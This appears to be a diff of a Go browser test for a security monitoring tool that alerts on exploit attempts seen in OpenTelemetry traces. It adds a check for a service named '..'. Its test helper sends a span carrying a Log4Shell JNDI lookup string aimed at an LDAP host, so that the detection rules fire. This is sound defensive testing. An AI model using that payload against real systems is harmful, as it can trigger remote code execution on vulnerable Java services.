@@ -298,7 +298,7 @@ func TestUIInBrowser(t *testing.T) {
 	eval(`window.notReloaded = true`, nil)
 	waitForBrowser(t, ctx, "the alert stream to connect", `document.getElementById("stream-state").textContent === "live"`)
 	before := count(`#alerts tbody tr[data-alert]`)
-	sendExploit(t, srv.otlp.HTTPAddr())
+	sendExploit(t, srv.otlp.HTTPAddr(), "gateway")
 	waitForBrowser(t, ctx, "the exploit alert to appear", `document.querySelector('#alerts tbody tr.fresh') !== null`)
 	var stillThere bool
 	eval(`window.notReloaded === true`, &stillThere)
@@ -312,6 +312,15 @@ func TestUIInBrowser(t *testing.T) {
 		t.Errorf("alert rows: %d before, %d after, want one more", before, after)
 	}
 	screenshot("alerts")
+	// A service named ".." links to its page, not to what a browser
+	// resolves /ui/services/.. to (/ui/).
+	sendExploit(t, srv.otlp.HTTPAddr(), "..")
+	waitForBrowser(t, ctx, "the exploit alert of .. to appear", `document.querySelectorAll('#alerts tbody tr.fresh').length === 2`)
+	var evidence string
+	eval(`new URL(document.querySelector('#alerts tbody tr:first-child a').href).pathname + new URL(document.querySelector('#alerts tbody tr:first-child a').href).search`, &evidence)
+	if !strings.HasPrefix(evidence, "/ui/services?name=..") {
+		t.Errorf("the evidence link of service ..'s alert arriving live = %q, want /ui/services?name=..", evidence)
+	}
 
 	// Findings change live: a scanner report uploaded while the table is
 	// open shows without a reload.
@@ -426,14 +435,14 @@ func startShopServerStore(t *testing.T, data string, st storeConfig) *server {
 
 // sendExploit exports a request to gateway carrying a Log4Shell lookup in
 // its query, which the exploit rules alert on.
-func sendExploit(t *testing.T, addr string) {
+func sendExploit(t *testing.T, addr, service string) {
 	t.Helper()
 	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(addr), otlptracehttp.WithInsecure())
 	if err != nil {
 		t.Fatal(err)
 	}
 	tp := sdktrace.NewTracerProvider(sdktrace.WithSyncer(exp),
-		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", "gateway"))))
+		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", service))))
 	_, span := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
 		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
 			attribute.String("url.path", "/search"), attribute.String("url.query", "q=${jndi:ldap://198.51.100.7/a}"),
